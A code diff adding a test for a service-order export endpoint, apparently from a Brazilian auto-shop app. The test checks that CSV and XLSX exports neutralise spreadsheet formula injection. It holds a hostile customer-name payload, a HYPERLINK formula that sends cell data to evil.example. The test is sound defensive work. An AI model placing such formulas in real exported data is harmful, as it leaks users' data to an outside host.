@@ -150,3 +150,44 @@ describe('GET /api/os/exportar', () => {
     expect(sheet.getRow(4).getCell(5).value).toBe('Fiat Uno - ABC1D23')
   })
 })
+
+describe('GET /api/os/exportar with a hostile customer name', () => {
+  const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Clique aqui")'
+
+  it('neutralises the formula in CSV and writes it as plain text in XLSX', async () => {
+    const { admin } = await buildCompany(t)
+    const cliente = await create(t, admin, '/api/clientes', {
+      tipo_pessoa: 'fisica',
+      doc: '52998224725',
+      nome_razao: HYPERLINK,
+    })
+    const veiculo = await create(t, admin, '/api/veiculos', {
+      cliente_id: cliente.id,
+      placa: 'XYZ9A87',
+      marca: 'Fiat',
+      modelo: '@SUM(1+1)',
+    })
+    const criada = await create(t, admin, '/api/os', { cliente_id: cliente.id, veiculo_id: veiculo.id })
+
+    const csv = await call(t, admin, 'GET', '/api/os/exportar?formato=csv')
+    expect(csv.statusCode, csv.body).toBe(200)
+    const linha = csv.body
+      .replace(/^\uFEFF/, '')
+      .trim()
+      .split(/\r?\n/)[1]
+    // The quote doubles inside a quoted CSV field; the cell opens as the text "'=HYPERLINK(...)".
+    expect(linha).toContain(`;"'=HYPERLINK(""http://evil.example/?d=""&A1;""Clique aqui"")";`)
+    expect(linha).toContain(';Fiat @SUM(1+1) - XYZ9A87;')
+    expect(linha).toMatch(/;R\$\s0,00$/)
+
+    const xlsx = await call(t, admin, 'GET', '/api/os/exportar?formato=xlsx')
+    const workbook = new ExcelJS.Workbook()
+    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer)
+    const row = workbook.getWorksheet('Ordens de Serviço')!.getRow(2)
+    expect(row.getCell(1).value).toBe(criada.numero_os)
+    const celula = row.getCell(4)
+    expect(celula.type).toBe(ExcelJS.ValueType.String)
+    expect(celula.formula).toBeUndefined()
+    expect(celula.value).toBe(HYPERLINK)
+  })
+})
